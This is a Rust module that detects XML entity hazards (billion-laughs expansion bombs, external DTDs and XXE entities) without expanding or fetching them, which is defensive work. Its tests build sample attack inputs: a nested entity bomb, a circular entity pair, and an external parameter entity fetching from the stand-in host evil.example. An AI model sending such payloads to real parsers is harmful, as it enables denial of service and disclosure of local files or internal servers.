//! What the entities of a DOCTYPE would do to a parser that reads them.

use std::collections::HashMap;

/// Characters that entities may come to before they count as a bomb.
const BOMB: u64 = 1 << 20;

/// What would happen, a sentence each.
pub(super) fn traps(doctype: &str) -> Vec<String> {
    let declared = declarations(doctype);
    let mut all: Vec<String> =
        subset(doctype).into_iter().chain(declared.iter().filter_map(external)).collect();
    let inside: HashMap<&str, &str> =
        declared.iter().filter(|entity| !entity.external).map(|entity| (entity.name, entity.value)).collect();
    let mut lengths = HashMap::new();
    let longest = inside.keys().map(|name| length(name, &inside, &mut lengths, 0)).max().unwrap_or(0);
    if longest > BOMB {
        let says = format!(
            "Entities that repeat one another come to {longest} characters or more: a parser that expands them stops the \
             application (billion laughs, the family of CVE-2003-1564). None was expanded here."
        );
        all.push(says);
    }
    all
}

/// A document type that lies elsewhere.
fn subset(doctype: &str) -> Option<String> {
    let head = doctype.split('[').next().unwrap_or(doctype);
    let (_, place) = head.split_once("SYSTEM").or_else(|| head.split_once("PUBLIC"))?;
    let place = literal(place).filter(|place| place.contains("//") || place.ends_with(".dtd"))?;
    Some(format!(
        "The document type lies at {place}: a parser that fetches it lets whoever sent this choose what it reads, and learns who \
         reads it. Nothing was fetched here."
    ))
}

struct Entity<'t> {
    name: &'t str,
    /// The replacement text, or where it lies.
    value: &'t str,
    external: bool,
    parameter: bool,
}

fn declarations(doctype: &str) -> Vec<Entity<'_>> {
    doctype.split("<!ENTITY").skip(1).take(1000).filter_map(declaration).collect()
}

fn declaration(text: &str) -> Option<Entity<'_>> {
    let text = text.trim_start();
    let parameter = text.starts_with('%');
    let text = text.trim_start_matches('%').trim_start();
    let (name, rest) = text.split_once(|c: char| c.is_whitespace())?;
    let rest = rest.trim_start();
    let external = rest.starts_with("SYSTEM") || rest.starts_with("PUBLIC");
    let mut quoted = rest.split(['"', '\'']).skip(1).step_by(2);
    let value = if rest.starts_with("PUBLIC") { quoted.nth(1) } else { literal(rest) };
    Some(Entity { name, value: value?, external, parameter })
}

fn literal(text: &str) -> Option<&str> {
    let start = text.find(['"', '\''])?;
    let quote = text.get(start..=start)?;
    text.get(start + 1..)?.split(quote).next()
}

fn external(entity: &Entity<'_>) -> Option<String> {
    entity.external.then(|| {
        let kind = if entity.parameter { "parameter entity" } else { "entity" };
        format!(
            "The {kind} {} stands for what lies at {}: a parser that fetches it hands local files or inner servers to whoever sent \
             this (XXE). Nothing was fetched here.",
            entity.name, entity.value
        )
    })
}

/// How many characters an entity comes to; deep chains and circles end at the bomb's measure.
fn length<'t>(
    name: &'t str,
    all: &HashMap<&'t str, &'t str>,
    known: &mut HashMap<&'t str, u64>,
    depth: usize,
) -> u64 {
    if let Some(length) = known.get(name) {
        return *length;
    }
    let Some(value) = all.get(name) else { return 0 };
    if depth > 32 {
        return BOMB + 1;
    }
    let mut total = value.len() as u64;
    for piece in value.split('&').skip(1) {
        if let Some((inner, _)) = piece.split_once(';') {
            total = total.saturating_add(length(inner, all, known, depth + 1));
        }
    }
    known.insert(name, total);
    total
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bombs_and_fetches_are_told_and_small_entities_are_not() {
        assert!(traps("<!DOCTYPE r [<!ENTITY who \"mira\">]>").is_empty());
        let mut bomb = "<!ENTITY a0 \"lol\">".to_owned();
        for at in 1..10 {
            bomb += &format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10));
        }
        assert!(traps(&bomb)[0].contains("billion laughs"));
        assert!(
            traps("<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>")[0]
                .contains("http://evil.example/x.dtd")
        );
        assert!(traps("<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">")[0].contains("billion laughs"), "a circle");
    }
}
